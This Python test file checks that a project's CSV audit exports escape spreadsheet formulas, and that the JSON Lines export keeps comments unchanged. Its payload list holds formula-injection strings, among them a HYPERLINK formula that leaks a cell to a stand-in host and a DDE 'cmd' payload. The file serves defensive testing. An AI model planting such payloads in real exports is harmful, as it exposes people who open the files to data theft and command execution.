"""No CSV export carries a formula into a spreadsheet: a transition comment such as
``=HYPERLINK(...)`` leaves the API's and the command line's audit export as text (a
leading ``'``), while the JSON Lines export keeps it exactly as the hash chain covers it."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from click.testing import CliRunner

from inkubators.cli import main
from tests.api.conftest import Api
from workflow import csvsafe

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


def _withdraw_with(api: Api, world: dict[str, Any]) -> None:
    """The world's case and three more, each withdrawn with one formula as its comment."""
    cases = [world["case"]["id"]]
    for n in range(1, len(FORMULAS)):
        org = api.ok(
            "POST",
            "/organisations",
            {"name": f"O{n}", "reg_no": f"4000900000{n}", "legal_form": "association"},
            201,
        )
        body = {"organisation_id": org["id"], "cycle_id": world["cycle"]["id"]}
        cases.append(api.ok("POST", "/cases", body, 201)["id"])
    for case, formula in zip(cases, FORMULAS, strict=True):
        api.ok("POST", f"/cases/{case}/transitions", {"trigger": "withdraw", "comment": formula})


def _comments(text: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for value in row.values():
            assert not value.startswith(csvsafe.FORMULA_START), row
    return [r["comment"] for r in rows if r["trigger"] == "withdraw"]


def test_the_api_csv_export_neutralises_formulas(api: Api, world: dict[str, Any]) -> None:
    _withdraw_with(api, world)
    exported = api.get("/audit/export?format=csv", role="auditor")
    assert exported.status_code == 200
    assert _comments(exported.get_data(as_text=True)) == ["'" + f for f in FORMULAS]
    lines = api.get("/audit/export?format=jsonl", role="auditor").get_data(as_text=True)
    kept = [e["comment"] for e in map(json.loads, lines.splitlines()) if e["trigger"] == "withdraw"]
    assert kept == FORMULAS


def test_the_command_line_csv_export_neutralises_formulas(
    api: Api, world: dict[str, Any], sqlite_url: str
) -> None:
    _withdraw_with(api, world)
    result = CliRunner().invoke(
        main, ["audit", "export", "--format", "csv"], env={"DATABASE_URL": sqlite_url}
    )
    assert result.exit_code == 0, result.output
    assert _comments(result.stdout) == ["'" + f for f in FORMULAS]


def test_a_cell_is_neutralised_only_when_a_spreadsheet_would_evaluate_it() -> None:
    for text in ("=1", "+1", "-1", "@x", "\t=1", "\r=1"):
        assert csvsafe.cell(text) == "'" + text
    for value in ("1", "a=b", " =1", "'=1", "", None, 5, -5):
        assert csvsafe.cell(value) == value
